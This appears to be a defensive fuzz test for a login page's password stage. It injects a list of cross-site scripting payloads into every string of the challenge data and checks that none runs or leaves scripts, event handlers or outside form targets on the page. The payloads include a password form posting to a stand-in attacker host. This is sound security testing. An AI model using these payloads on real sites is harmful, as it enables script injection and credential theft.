/** Code in every string of every challenge: the code must not run, and must stay in its place. */
import { expect } from "@open-wc/testing";
import type { Challenge } from "../../src/protocol/index.js";
import { challenge } from "../../src/testing/challenge.js";
import { fixtures } from "../../src/testing/fixtures/index.js";
import { places, put, type Path } from "./places.js";
import { Chance, fetchNothing, fuzz, Runner, settles } from "./runner.js";

const SEED = 20261129;
const normal = challenge("ak-stage-password");
const page: Window & { ruin?: () => void } = window;

const ELEMENTS = "body *, head *";

const PAYLOADS = [
  "<img src=x onerror=ruin()>",
  "<script>ruin()</script>",
  "javascript:ruin()",
  " java\nscript:ruin()",
  "data:text/html,<script>parent.ruin()</script>",
  '"><svg onload=ruin()>',
  "<form action=https://evil.example><input name=password><button>Go</button></form>",
  '<a href="javascript:ruin()" onclick="ruin()">x</a>',
  "<style>* { display: none }</style><base href=https://evil.example>",
  '<iframe srcdoc="<script>parent.ruin()</script>"></iframe>',
  "<math><mtext><table><mglyph><style><img src=x onerror=ruin()>",
  "${ruin()} {{constructor.constructor('ruin()')()}}",
];

/** Elements and attributes that must never be on the page. */
function dangers(root: ParentNode): string[] {
  const all = [...root.querySelectorAll("*")];
  const attributes = all.flatMap((each) => [...each.attributes]);
  const own = new URL(location.href).origin;
  return [
    ...all
      .filter(({ localName }) =>
        /^(script|base|style|object|embed)$/.test(localName),
      )
      .map(({ localName }) => localName),
    ...attributes
      .filter(({ name }) => name.startsWith("on") || name === "srcdoc")
      .map(({ name }) => name),
    ...attributes
      .filter(({ name }) => /^(href|src|action|formaction)$/.test(name))
      .map(({ value }) => value.replace(/[\s\0]/g, ""))
      .filter((value) => /^(javascript|vbscript|data:text)/i.test(value)),
    ...[...root.querySelectorAll("form")]
      .map((form) => form.getAttribute("action"))
      .filter((action) => action?.startsWith("https://evil.example"))
      .map(() => `a form that leaves ${own}`),
  ];
}

/** Puts code into all strings, or into some random ones. */
function spread(
  state: Challenge,
  payload: string,
  chosen: (path: Path) => boolean,
): object {
  let reply: object = state;
  for (const path of places(state)) {
    const value = path.reduce<unknown>(
      (inner, key) => Reflect.get(Object(inner) as object, key),
      state,
    );
    // Another component or kind would make it another challenge.
    const isKind = /^(component|type|device_class|layout)$/.test(
      String(path.at(-1)),
    );
    if (typeof value === "string" && !isKind && chosen(path))
      reply = put(reply, path, payload);
  }
  return reply;
}

fetchNothing();

describe(`payloads, seed ${SEED}`, () => {
  let ruined = 0;
  before(() => (page.ruin = () => void ruined++));
  after(() => Reflect.deleteProperty(page, "ruin"));

  for (const [component, states] of Object.entries(fixtures)) {
    it(`do not run and stay inside the stage: ${component}`, async () => {
      const chance = new Chance(SEED);
      const all = Object.values<Challenge>(states);
      const runner = new Runner();
      await runner.warmUp(normal);
      const around = document.querySelectorAll(ELEMENTS).length;
      const found: string[] = [];
      const times = await fuzz();
      for (const payload of PAYLOADS)
        for (let time = 0; time < times; time++) {
          const state = chance.pick(all);
          const isAll = time === 0;
          const reply = spread(
            state,
            payload,
            () => isAll || chance.below(3) === 0,
          );
          await runner.get(reply);
          const { element } = runner;
          const wrong = [
            ...dangers(element),
            ...(element.shadowRoot ? dangers(element.shadowRoot) : []),
            ...(ruined > 0 ? ["something ran"] : []),
            ...runner.thrown(),
          ];
          ruined = 0;
          found.push(...wrong.map((line) => `${payload}: ${line}`));
          await runner.get(normal);
        }
      const count = () => document.querySelectorAll(ELEMENTS).length;
      // The browser reports a refused script in a later task, which removes the script.
      await settles(() => count() === around);
      const left = count();
      runner.end();
      expect(found.join("\n")).to.equal("");
      expect(left, "elements on the page").to.equal(around);
    }).timeout(300_000);
  }
});
